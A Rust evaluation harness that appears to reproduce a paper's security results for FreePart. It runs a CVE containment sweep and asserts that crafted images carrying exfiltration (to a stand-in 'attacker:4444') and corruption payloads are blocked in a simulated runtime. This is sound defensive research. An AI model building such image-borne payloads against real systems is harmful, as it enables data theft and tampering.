//! Regenerates the **§5 "Correctness" + §5.3 security analysis**:
//! every Table 5 CVE is exercised against FreePart; exfiltration and
//! corruption attacks are launched and judged.

use freepart::{Policy, Runtime};
use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
use freepart_baselines::ApiSurface;
use freepart_bench::{cve_sweep, Table};
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};

fn main() {
    // ---- per-CVE containment sweep ----
    let mut t = Table::new([
        "CVE",
        "API",
        "exploit fired",
        "host survived",
        "fully prevented",
    ]);
    let mut all_ok = true;
    for v in cve_sweep() {
        all_ok &= v.fired && v.host_survived && v.fully_prevented;
        let y = |b: bool| if b { "yes" } else { "NO" };
        t.row([
            v.id,
            v.api,
            y(v.fired),
            y(v.host_survived),
            y(v.fully_prevented),
        ]);
    }
    t.print("§5 Correctness — all Table 5 CVEs vs FreePart");
    println!(
        "\nAll attacks contained: {all_ok} (paper: all 18 CVEs mitigated, no false\n\
         negatives; benign runs produced no false positives — see the test suite's\n\
         benign-workload assertions)."
    );

    // ---- §5.3 data exfiltration ----
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let secret = rt.host_data("user-profiles", b"SECRET-PROFILE-DATA");
    let s_addr = rt.objects.meta(secret).unwrap().buffer.unwrap().0;
    let img = Image::new(16, 16, 3);
    rt.kernel.fs_put(
        "/exfil.simg",
        fileio::encode_image(
            &img,
            Some(&payloads::exfiltrate(
                "CVE-2017-12597",
                s_addr.0,
                19,
                "attacker:4444",
            )),
        ),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/exfil.simg")]);
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    let v = judge(
        &AttackGoal::Exfiltrate {
            marker: b"SECRET-PROFILE".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("\n§5.3 data exfiltration from the loading agent: {v:?} (paper: prevented —");
    println!("the secret lives in the host process AND the agent's filter has no send).");
    assert_eq!(v, Verdict::Prevented);

    // ---- §5.3 data corruption ----
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let cfg = rt.host_data("model-config", b"threshold=0.75;classes=10");
    let c_addr = rt.objects.meta(cfg).unwrap().buffer.unwrap().0;
    rt.kernel.fs_put(
        "/corrupt.simg",
        fileio::encode_image(
            &img,
            Some(&payloads::corrupt("CVE-2017-12606", c_addr.0, vec![0; 8])),
        ),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/corrupt.simg")]);
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    let v = judge(
        &AttackGoal::CorruptObject {
            id: cfg,
            original: b"threshold=0.75;classes=10".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("\n§5.3 data corruption of host configuration: {v:?} (paper: prevented).");
    assert_eq!(v, Verdict::Prevented);
}
